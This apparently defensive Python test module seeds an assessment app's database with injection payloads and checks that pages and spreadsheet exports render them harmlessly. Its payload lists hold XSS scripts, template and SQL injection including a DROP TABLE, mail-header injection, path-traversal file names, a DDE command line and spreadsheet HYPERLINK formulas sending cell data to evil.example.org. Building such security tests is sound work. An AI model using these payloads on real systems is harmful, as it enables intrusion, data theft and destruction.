"""Texts that would do harm where they are taken for something else, and how to see that they did not."""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from itertools import cycle

from sqlalchemy import Engine
from sqlmodel import SQLModel, select

from assess.definitions.library import load_questionnaires
from assess.definitions.questionnaire_items import ItemType
from assess.store.session import writing
from assess.store.staff_tables import Account, AccountSession, BreakGlass, Programme
from assess.store.steering_tables import ActionItem, ActionReview, CarriedAnswer, Decision, Override, Publication
from assess.store.tables import Answer, AnswerRevision, Cluster, EvidenceFile, Job, Member
from security.roaming import Sheet

MARK = "zqzq"
"""Stands in every payload and in nothing else of the site."""
PAGES = (
    f'{MARK}"><zq-x onmouseover=alert(1)><script>alert("{MARK}")</script>',
    f"{MARK}'--><svg/onload=alert(1)></textarea></title><zq-y>",
    f'{MARK}<img src=x onerror=alert(1)><a href="javascript:alert(1)">{MARK}</a>',
    f"{MARK}{{{{7919*7907}}}}{{% for x in range(9) %}}${{7919*7907}}#{{7919*7907}}<%= 7919*7907 %>",
    f"{MARK}' OR 1=1; DROP TABLE member; --",
)
"""For pages, templates and SQL."""
SHEETS = (
    *(f'{sign}HYPERLINK("https://evil.example.org/?x="&A1,"{MARK}")' for sign in ("=", "+", "-", "@")),
    f"\t=1+1{MARK}",
    f"\r=1+1{MARK}",
    f"=cmd|'/C calc'!{MARK}",
)
"""For programs that calculate."""
LETTERS = (
    f"{MARK}@example.org\r\nBcc: everybody@example.org",
    f"{MARK}@example.org\nSubject: other",
    f"{MARK}@example.org%0aBcc:x@example.org",
    f"{MARK}@example.org, everybody@example.org",
    f'"{MARK}" <x@example.org>',
)
"""For the heads of mails."""
NAMES = (
    f"../../../etc/{MARK}.pdf",
    f"..\\..\\{MARK}.pdf",
    f'{MARK}".pdf\r\nX-Evil: 1',
    f"/etc/{MARK}.pdf",
    f"{MARK}\u202efdp.exe",
    f"{MARK}\x00.pdf",
    ".htaccess",
)
"""For names of files."""
CALCULATED = str(7919 * 7907)
"""What the templates among the payloads come to, had one been taken for a template."""
_STARTS_A_FORMULA = re.compile(r"[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?\Z")

WRITTEN_BY_PEOPLE: Mapping[type[SQLModel], tuple[str, ...]] = {
    Account: ("name",),
    AccountSession: ("browser",),
    ActionItem: ("title", "owner", "milestone", "because"),
    ActionReview: ("note",),
    BreakGlass: ("reason",),
    CarriedAnswer: ("because",),
    Cluster: ("name", "sector", "region", "country"),
    Decision: ("note",),
    EvidenceFile: ("name",),
    Job: ("error",),
    Member: ("name",),
    Override: ("reason",),
    Programme: ("name", "funder"),
    Publication: ("withdrawn_because",),
}
"""The columns that hold what people wrote."""


def poison(engine: Engine, texts: tuple[str, ...]) -> int:
    """Write the texts in turn into every row of what people write, past the verbs that would refuse some; return how many."""
    turns, count = cycle(texts), 0
    with writing(engine) as session:
        for table, columns in WRITTEN_BY_PEOPLE.items():
            for row in session.exec(select(table)):
                for column in columns:
                    setattr(row, column, next(turns))
                    count += 1
                session.add(row)
        free = {item.name for one in load_questionnaires().values() for item in one.items if item.type is ItemType.TEXT}
        rows = [*session.exec(select(Answer)), *session.exec(select(AnswerRevision))]
        for answer in rows:
            if answer.item in free:
                answer.raw = next(turns)
                session.add(answer)
                count += 1
    return count


def offences(sheet: Sheet) -> Iterator[str]:
    """What a page would do that no page of ours does."""
    for tag, given in sheet.elements:
        if tag.startswith("zq") or (tag == "script" and not given.get("src", "").startswith("/static/")):
            yield f"<{tag} {given}>"
        for name, value in given.items():
            if name.startswith(("on", "zq")) or name == "style" or (name in ("href", "src", "action") and _leads_away(value)):
                yield f"<{tag} {name}={value!r}>"
    if CALCULATED in sheet.text:
        yield "a template was calculated"


_OWN = "https://survey.example.org/verify/"
"""Where a report says that its number can be looked up."""


def _leads_away(address: str) -> bool:
    if address.startswith(_OWN):
        return False
    return address.strip().lower().startswith(("javascript:", "data:", "vbscript:", "http:", "https:", "//", "\\"))


def is_formula(cell: str) -> bool:
    """Whether a program that calculates would take a cell for a formula."""
    return bool(_STARTS_A_FORMULA.match(cell)) and not _NUMBER.match(cell)
